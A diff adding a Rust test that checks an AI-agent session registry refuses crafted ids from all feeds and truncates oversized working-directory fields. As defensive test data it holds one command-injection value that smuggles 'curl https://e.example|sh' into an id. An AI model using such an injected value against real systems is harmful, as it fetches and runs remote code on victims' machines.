@@ -516,3 +516,40 @@ fn sixteen_one_mib_requests_leave_no_big_fields_and_little_memory_behind() {
         assert!(title.len() <= 1024 && title.ends_with("…[cut]"));
     }
 }
+
+/// Every feed (agent files, journal replay, pid watcher) hands its observations to the registry,
+/// so the registry's own gate is what stops a crafted id that came from a file name.
+#[test]
+fn the_registry_refuses_crafted_ids_and_cuts_big_fields_whatever_the_feed() {
+    use agent_tray::model::{Agent, EventKind, Observation, Source};
+    use agent_tray::registry::SessionsRegistry;
+    let registry = SessionsRegistry::new();
+    let at = chrono::Utc::now();
+    for source in [
+        Source::Transcript,
+        Source::Rollout,
+        Source::SessionsFile,
+        Source::Hook,
+    ] {
+        let crafted = Observation::new(
+            "x; curl https://e.example|sh #",
+            Agent::Claude,
+            EventKind::SessionStart,
+            at,
+        )
+        .with_source(source);
+        assert!(registry.observe(crafted).is_err(), "{source:?}");
+    }
+    let big = Observation::new("from-a-file", Agent::Codex, EventKind::SessionStart, at)
+        .with_source(Source::Rollout)
+        .with_cwd(Some(format!("/{}", "p".repeat(100_000))));
+    assert!(registry.observe(big).is_ok());
+    let listed = registry.list();
+    assert_eq!(listed.len(), 1, "only the valid one is there");
+    let cwd = listed[0].cwd.as_deref().unwrap();
+    assert!(
+        cwd.len() <= 4096 && cwd.ends_with("…[cut]"),
+        "{}",
+        cwd.len()
+    );
+}
